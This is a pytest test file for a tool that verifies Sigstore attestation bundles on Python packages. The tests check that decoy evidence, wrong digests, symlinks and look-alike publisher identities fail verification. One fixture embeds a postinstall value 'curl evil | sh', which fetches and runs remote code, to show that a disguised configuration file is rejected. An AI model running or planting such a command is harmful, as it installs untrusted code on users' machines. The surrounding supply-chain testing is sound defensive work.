"""Files that hide, and evidence of others: none of it passes."""

import json
import shutil
from pathlib import Path

import pytest

from support.attacks import Shell
from support.evidence import PROJECT, PUBLISHER, WHEEL, Signer, beside, statement

EXACT = f"{PUBLISHER}@refs/tags/v{{pep440}}"
TEST_RESULT = "https://in-toto.io/attestation/test-result/v0.1"
PASSED_TESTS = {"result": "PASSED", "configuration": []}
GOOD, OTHER = b"a wheel", b"malware"


def in_a_bundle(signer: Signer, path: Path, document: bytes) -> None:
    beside(path, ".sigstore.json").write_bytes(signer.bundle(document))


def test_an_artifact_that_calls_itself_evidence_is_judged(
    signer: Signer, shell: Shell, dist: Path
) -> None:
    path = signer.attested(dist)
    bundle = json.loads(signer.bundle(statement(GOOD)))
    # A configuration that runs a command, and is a genuine bundle about the good file besides.
    (dist / "config.json").write_text(json.dumps({**bundle, "postinstall": "curl evil | sh"}))
    code, output = shell.verify(dist, "--publisher", PUBLISHER)
    assert (code, "MISSING  config.json" in output) == (3, True), output
    assert shell.verify(path, dist / "config.json", "--publisher", PUBLISHER)[0] == 3
    # Named as evidence a bundle is evidence, whatever it is called.
    beside(path).unlink()
    (dist / "config.json").write_text(json.dumps(bundle))
    command = (path, "--evidence", dist / "config.json", "--publisher", PUBLISHER)
    assert shell.verify(*command)[0] == 0


@pytest.mark.parametrize("suffix", [".attestation", ".provenance", ".sigstore", ".sigstore.json"])
def test_a_file_named_like_evidence_never_passes_and_is_named(
    signer: Signer, shell: Shell, dist: Path, suffix: str
) -> None:
    path = signer.attested(dist)
    signer.attested(dist, "hello_lane-1.2.3.tar.gz", b"an sdist")
    evil = dist / f"setup{suffix}"
    evil.write_bytes(OTHER)
    code, output = shell.verify(evil, "--publisher", PUBLISHER)
    assert (code, "there is nothing to verify" in output) == (3, True), output
    code, output = shell.verify(dist, "--publisher", PUBLISHER)
    assert f"note: SL-EV-003 evidence-unrelated: {evil}" in output
    assert "2 artifacts: 2 passed" in output
    assert code == 0
    path.write_bytes(OTHER)
    assert shell.verify(dist, "--publisher", PUBLISHER)[0] == 1


def test_a_file_does_not_stand_in_for_the_digest_that_was_asked_for(
    signer: Signer, shell: Shell, dist: Path
) -> None:
    path = signer.attested(dist)
    name = f"sha256:{'0' * 64}"
    shutil.copy(path, name)
    evidence = ("--evidence", beside(path), "--publisher", f"{PUBLISHER}@v1.2.3")
    code, output = shell.verify(name, *evidence)
    assert (code, "SL-SUB-001" in output) == (1, True), output
    assert shell.verify(path, *evidence)[0] == 0


def test_an_empty_path_is_not_the_working_directory(
    signer: Signer, shell: Shell, dist: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    signer.attested(dist)
    monkeypatch.chdir(dist)
    assert shell.verify(".", "--publisher", PUBLISHER)[0] == 0
    assert shell.verify("", "--publisher", PUBLISHER)[0] == 2
    assert shell.verify(WHEEL, "", "--publisher", PUBLISHER)[0] == 2


def test_a_link_has_the_version_of_its_own_name(signer: Signer, shell: Shell, dist: Path) -> None:
    path = signer.attested(dist)
    link = dist / "hello_lane-1.2.4-py3-none-any.whl"
    link.symlink_to(path.name)
    document = statement(GOOD, predicate_type=TEST_RESULT, predicate=PASSED_TESTS)
    shutil.copy(beside(path), beside(link))
    code, output = shell.verify(link, "--publisher", PUBLISHER)
    assert (code, "SL-SUB-003" in output) == (1, True), output
    beside(link).unlink()
    in_a_bundle(signer, link, document)
    assert shell.verify(link, "--publisher", PUBLISHER)[0] == 3
    assert shell.verify(path, path.parent / "." / path.name, "--publisher", PUBLISHER)[0] == 0


def test_a_file_named_twice_is_judged_once(signer: Signer, shell: Shell, dist: Path) -> None:
    path = signer.attested(dist)
    code, output = shell.verify(path, path, dist, "--publisher", PUBLISHER)
    assert (code, "1 artifact: 1 passed" in output) == (0, True), output


@pytest.mark.parametrize("suffix", [".sigstore.json", ".sigstore"])
@pytest.mark.parametrize("more", [(), ({"name": "more", "digest": {"sha256": "0" * 64}},)])
def test_a_publish_statement_stays_bound_to_its_name_in_any_envelope(
    signer: Signer, shell: Shell, dist: Path, suffix: str, more: tuple[dict[str, object], ...]
) -> None:
    """An index, or a mirror, may serve one package of a publisher under the name of another."""
    path = dist / "hello_admin-1.2.3-py3-none-any.whl"
    path.write_bytes(GOOD)
    bundle = signer.bundle(statement(GOOD, WHEEL, more=more))
    beside(path, suffix).write_bytes(bundle)
    code, output = shell.verify(path, "--publisher", PUBLISHER)
    assert (code, "SL-SUB-00" in output) == (1, True), output
    own = dist / WHEEL
    own.write_bytes(GOOD)
    beside(own, suffix).write_bytes(bundle)
    assert shell.verify(own, "--publisher", PUBLISHER)[0] == (1 if more else 0)


def test_the_evidence_of_another_file_named_by_flag_fails(
    signer: Signer, shell: Shell, dist: Path, tmp_path: Path
) -> None:
    path = signer.attested(dist)
    beside(path).unlink()
    apart = tmp_path / "apart"
    apart.mkdir()
    other = signer.attested(apart, "other-1.2.3-py3-none-any.whl", OTHER)
    code, output = shell.verify(path, "--evidence", beside(other), "--publisher", PUBLISHER)
    assert (code, "SL-SUB-001" in output) == (1, True), output
    # Under the artifact's name in another folder, too, and beside a second artifact.
    shutil.copy(beside(other), apart / beside(path).name)
    second = signer.attested(dist, "hello_lane-1.2.3.tar.gz", b"an sdist")
    arguments = ("--evidence", apart / beside(path).name, "--publisher", PUBLISHER)
    code, output = shell.verify(path, second, *arguments)
    assert (code, "1 passed, 1 failed" in output) == (1, True), output


@pytest.mark.parametrize(
    "content", [b"", b" \n\n", b"null", b"[]", b"{}", b"\xef\xbb\xbf{}", b"\0"]
)
@pytest.mark.parametrize(
    ("suffix", "code"),
    [
        (".sigstore.json", 1), (".provenance", 1), (".attestation", 1),
        # Of lines that are none of ours nothing is left: that is no evidence, not broken evidence.
        (".jsonl", 3),
    ],
)  # fmt: skip
def test_evidence_that_says_nothing_proves_nothing(
    shell: Shell, dist: Path, content: bytes, suffix: str, code: int
) -> None:
    path = dist / WHEEL
    path.write_bytes(GOOD)
    file = beside(path, suffix)
    file.write_bytes(content)
    found, output = shell.verify(path, "--evidence", file, "--publisher", PUBLISHER)
    assert (found, "0 passed" in output) == (code, True), output
    assert shell.verify(path, "--evidence", file)[0] == code


@pytest.mark.parametrize(
    "publisher",
    [
        "gitlab:acme/hello", "gitlab:acme/hello-lane/sub", "gitlab:hello-lane/acme",
        f"{PUBLISHER}//.gitlab-ci.yml@main", f"{PUBLISHER}//.gitlab-ci.yml@refs/heads/v1.2.3",
        f"{PUBLISHER}//ci.yml", f"{PUBLISHER}@v{{semver}}rc1", f"{PUBLISHER}@v1.2.3+x",
        f"gitlab+https://gitlab.com:443/{PROJECT}", f"github:{PROJECT}",
        "email:ann@example.org,https://gitlab.com",
    ],
)  # fmt: skip
def test_a_publisher_that_is_nearly_the_signer_is_not(
    signer: Signer, shell: Shell, dist: Path, publisher: str
) -> None:
    path = signer.attested(dist)
    assert shell.verify(path, "--publisher", publisher)[0] == 1
    assert shell.verify(path, "--publisher", PUBLISHER)[0] == 0


@pytest.mark.parametrize(
    ("ref", "version", "code"),
    [
        ("v1.0", "1.0", 0), ("v01.0", "1.0", 0), ("vv1.0", "1.0", 1), ("v1.0+evil", "1.0", 1),
        ("v1.0", "1.0+evil", 1), ("v1.0", "1!1.0", 1), ("v1!1.0", "1!1.0", 0),
        ("v1.0.post1", "1.0", 1),
    ],
)  # fmt: skip
def test_a_ref_is_the_tag_of_the_files_own_version(
    signer: Signer, shell: Shell, dist: Path, *, ref: str, version: str, code: int
) -> None:
    path = signer.attested(dist, f"hello_lane-{version}-py3-none-any.whl", ref=ref)
    assert shell.verify(path, "--publisher", EXACT)[0] == code
